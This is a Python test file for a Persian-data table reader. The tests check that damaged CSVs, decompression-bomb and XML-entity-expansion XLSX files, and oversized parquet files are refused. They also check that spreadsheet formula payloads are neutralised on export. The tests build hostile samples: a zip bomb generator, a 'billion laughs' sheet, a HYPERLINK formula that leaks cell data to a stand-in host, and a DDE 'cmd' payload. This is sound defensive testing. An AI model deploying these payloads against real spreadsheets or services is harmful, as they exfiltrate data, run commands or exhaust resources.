"""Reading is strict and bounded: damaged and hostile files are refused quickly, by name."""

from __future__ import annotations

import resource
import time
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from khooshe.io.tables import (
    LimitError,
    Limits,
    TableFormatError,
    neutralise,
    read_table,
    write_table,
)

SMALL = Limits(unzipped_mb=32, rows=100_000)


def _timed(fn):
    """Run ``fn``; return its exception, the seconds and the growth of peak memory (MB)."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    start = time.perf_counter()
    try:
        fn()
    except Exception as exc:  # the refusal under test
        error = exc
    else:
        error = None
    grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    return error, time.perf_counter() - start, grown


# --- Damaged CSV ---------------------------------------------------------------------------------
@pytest.mark.parametrize("body, line", [
    ("code,level,name_fa,population\n06,province,خوزستان,4710508\n0603,county,اهو", 3),
    ("code,level,name_fa,population\n06,province,خوزستان\n0603,county,اهواز,1302591\n", 2),
    ("code,level,name_fa,population\n06,province,خوزستان,4710508,extra\n", 2),
])
def test_a_cut_or_damaged_csv_is_refused_with_its_line(tmp_path, body, line):
    path = tmp_path / "r.csv"
    path.write_text(body, encoding="utf-8")
    with pytest.raises(TableFormatError, match=rf"line {line}: \d field"):
        read_table(path)


def test_an_unterminated_quote_is_refused(tmp_path):
    path = tmp_path / "r.csv"
    path.write_text('code,name_fa\n06,"خوزستان\n', encoding="utf-8")
    with pytest.raises(TableFormatError):
        read_table(path)


def test_a_repeated_header_is_refused(tmp_path):
    path = tmp_path / "r.csv"
    path.write_text("code,code\n1,2\n", encoding="utf-8")
    with pytest.raises(TableFormatError, match="appears twice"):
        read_table(path)


def test_csv_text_is_kept_exactly(tmp_path):
    path = tmp_path / "r.csv"
    path.write_text("\ufeffcode,name_en,n\n0603,\"Ahvaz, city\",\n", encoding="utf-8")
    df = read_table(path)
    assert df.to_dict("records") == [{"code": "0603", "name_en": "Ahvaz, city", "n": None}]


# --- Hostile spreadsheets ------------------------------------------------------------------------
def _xlsx(path: Path, sheet_xml: bytes | None = None, shared: bytes | None = None,
          chunks: int = 0) -> Path:
    """A minimal XLSX archive with the given sheet (and shared strings, or ``chunks`` MiB of
    one repeated letter in one shared string: a decompression bomb)."""
    ct = (b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
          b'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats'
          b'-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
          b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
          b'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
          b'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
          b'spreadsheetml.worksheet+xml"/></Types>')
    rels = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            b'openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            b'Target="xl/workbook.xml"/></Relationships>')
    wb = (b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/'
          b'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
          b'officeDocument/2006/relationships"><sheets><sheet name="s" sheetId="1" r:id="rId1"/>'
          b'</sheets></workbook>')
    wb_rels = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
               b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
               b'openxmlformats.org/officeDocument/2006/relationships/worksheet" '
               b'Target="worksheets/sheet1.xml"/></Relationships>')
    ns = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    sheet = sheet_xml or (b'<?xml version="1.0"?><worksheet ' + ns + b'><sheetData><row r="1">'
                          b'<c r="A1" t="inlineStr"><is><t>code</t></is></c></row></sheetData>'
                          b'</worksheet>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        z.writestr("[Content_Types].xml", ct)
        z.writestr("_rels/.rels", rels)
        z.writestr("xl/workbook.xml", wb)
        z.writestr("xl/_rels/workbook.xml.rels", wb_rels)
        z.writestr("xl/worksheets/sheet1.xml", sheet)
        if shared is not None:
            z.writestr("xl/sharedStrings.xml", shared)
        if chunks:
            with z.open("xl/sharedStrings.xml", "w", force_zip64=True) as f:
                f.write(b'<?xml version="1.0"?><sst ' + ns + b'><si><t>')
                block = b"a" * 2**20
                for _ in range(chunks):
                    f.write(block)
                f.write(b"</t></si></sst>")
    return path


def test_a_cell_at_xfd1048576_does_not_exhaust_memory(tmp_path):
    ns = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    sheet = (b'<?xml version="1.0"?><worksheet ' + ns + b'><dimension ref="A1:XFD1048576"/>'
             b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>code</t></is></c></row>'
             b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>')
    path = _xlsx(tmp_path / "far.xlsx", sheet)
    error, seconds, grown = _timed(lambda: read_table(path))
    assert isinstance(error, TableFormatError), error
    assert "column" in str(error)
    assert seconds < 10 and grown < 512


def test_a_decompression_bomb_is_refused_from_the_declared_size(tmp_path):
    path = _xlsx(tmp_path / "bomb.xlsx", chunks=48)  # 48 MiB of one letter, ~50 KB on disk
    assert path.stat().st_size < 1_000_000
    error, seconds, grown = _timed(lambda: read_table(path, limits=SMALL))
    assert isinstance(error, LimitError) and "decompressed size" in str(error)
    assert "unzipped_mb" in str(error) and seconds < 10 and grown < 512


def test_xml_entities_are_refused(tmp_path):
    ns = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    sheet = (b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;'
             b'&a;&a;&a;&a;&a;&a;&a;">]><worksheet ' + ns + b'><sheetData><row r="1"><c r="A1" '
             b't="inlineStr"><is><t>&b;</t></is></c></row></sheetData></worksheet>')
    path = _xlsx(tmp_path / "laughs.xlsx", sheet)
    with pytest.raises(TableFormatError, match="XML entities"):
        read_table(path)


def test_too_many_rows_are_refused_while_streaming(tmp_path):
    ns = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (i, i)
                    for i in range(2, 2003))
    sheet = (b'<?xml version="1.0"?><worksheet ' + ns + b'><sheetData><row r="1"><c r="A1" '
             b't="inlineStr"><is><t>code</t></is></c></row>' + rows + b'</sheetData></worksheet>')
    path = _xlsx(tmp_path / "rows.xlsx", sheet)
    with pytest.raises(LimitError, match="number of rows"):
        read_table(path, limits=Limits(rows=1000))
    assert len(read_table(path)) == 2001


def test_a_parquet_file_of_many_identical_rows_is_refused_from_its_metadata(tmp_path):
    path = tmp_path / "many.parquet"
    pd.DataFrame({"code": ["06"] * 200_000}).to_parquet(path)
    assert path.stat().st_size < 100_000
    error, seconds, grown = _timed(lambda: read_table(path, limits=SMALL))
    assert isinstance(error, LimitError) and "rows" in str(error)
    assert seconds < 2 and grown < 64


def test_a_huge_cell_is_refused(tmp_path):
    path = tmp_path / "cell.csv"
    path.write_text("code,name_fa\n06," + "x" * 2000 + "\n", encoding="utf-8")
    with pytest.raises(LimitError, match="row 2, column 'name_fa'"):
        read_table(path, limits=Limits(cell_chars=1000))


def test_limits_are_raised_by_the_environment(monkeypatch):
    monkeypatch.setenv("KHOOSHE_LIMITS", "rows=20000000,file_mb=4096")
    limits = Limits.from_env()
    assert limits.rows == 20_000_000 and limits.file_mb == 4096
    monkeypatch.setenv("KHOOSHE_LIMITS", "widgets=3")
    with pytest.raises(ValueError, match="unknown limit"):
        Limits.from_env()


@pytest.mark.slow
def test_the_probes_full_size_bombs(tmp_path):
    """The hostile files of issue 17 at their real sizes, with the default limits."""
    bomb = _xlsx(tmp_path / "1gib.xlsx", chunks=1024)
    error, seconds, grown = _timed(lambda: read_table(bomb))
    assert isinstance(error, LimitError) and seconds < 10 and grown < 512
    path = tmp_path / "50m.parquet"
    pd.DataFrame({"code": ["06"] * 50_000_000}).to_parquet(path)
    error, seconds, grown = _timed(lambda: read_table(path))
    assert isinstance(error, LimitError) and seconds < 10


# --- Formulas ------------------------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://x?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(A1)",
            "-2+3", "\tx", "=1+1"]


def test_exports_neutralise_formulas_and_read_back_the_same(tmp_path):
    from openpyxl import load_workbook

    df = pd.DataFrame({"name": FORMULAS, "n": range(len(FORMULAS))})
    for suffix in ("csv", "xlsx"):
        path = write_table(df, tmp_path / f"f.{suffix}")
        back = read_table(path)
        assert back["name"].tolist() == FORMULAS, suffix
    wb = load_workbook(tmp_path / "f.xlsx")
    cells = [c for row in wb.active.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert all(not str(c.value).startswith("=") for c in cells)
    text = (tmp_path / "f.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and "\n=" not in text
    assert neutralise(-5) == -5 and neutralise("Ahvaz") == "Ahvaz"
